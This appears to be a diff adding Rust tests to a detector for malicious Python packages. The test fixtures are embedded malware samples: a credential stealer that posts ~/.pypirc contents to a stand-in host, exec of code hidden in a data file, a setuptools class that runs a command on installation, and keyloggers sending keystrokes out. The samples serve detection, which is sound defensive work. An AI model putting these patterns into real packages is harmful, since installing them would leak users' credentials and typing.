@@ -1044,3 +1044,28 @@ fn a_key_that_is_computed_leaves_its_mark() {
     let sample = "import os, hashlib\nk = hashlib.sha256(os.environ.get('X', '').encode()).digest()\nexec(bytes(a ^ b for a, b in zip(bytes.fromhex('8f1c'), k)).decode())";
     flow(&analysed(Role::Package, sample), "environment.read", "code.exec");
 }
+
+#[test]
+fn settings_and_files_of_the_package_are_read() {
+    let sample = "import configparser, requests, os\nc = configparser.ConfigParser()\nc.read(os.path.expanduser('~/.pypirc'))\nrequests.post('http://a.invalid', data=dict(c['main']))";
+    flow(&analysed(Role::Package, sample), "file.read", "network.send");
+    let sample = "import importlib.resources as r\nexec(r.files(__package__).joinpath('locale.dat').read_text())";
+    let analysis = analysed(Role::Package, sample);
+    let found = flow(&analysis, "file.read", "code.exec");
+    assert!(found.source_text.iter().any(|text| text == "locale.dat"), "{found:?}");
+}
+
+#[test]
+fn a_class_of_distributions_runs_on_installation() {
+    let sample = "import os\nfrom setuptools import setup, Distribution\nclass D(Distribution):\n    def parse_command_line(self):\n        os.system('id')\nsetup(name='a', distclass=D)";
+    let analysis = analysed(Role::Setup, sample);
+    assert_eq!(call(&analysis, "os.system").phase, Phase::Install);
+}
+
+#[test]
+fn what_is_typed_reaches_the_listener() {
+    let sample = "import requests\nfrom pynput.keyboard import Listener\nclass A:\n    def __init__(self):\n        self.t = ''\n    def press(self, key):\n        self.t += str(key)\n    def send(self):\n        requests.post('http://a.invalid', data=self.t)\n    def go(self):\n        with Listener(on_press=self.press) as l:\n            self.send()\na = A()\na.go()";
+    flow(&analysed(Role::Package, sample), "keyboard.capture", "network.send");
+    let sample = "import requests, keyboard\ndef seen(event):\n    requests.post('http://a.invalid', data=event.name)\nkeyboard.hook(seen)";
+    flow(&analysed(Role::Package, sample), "keyboard.capture", "network.send");
+}
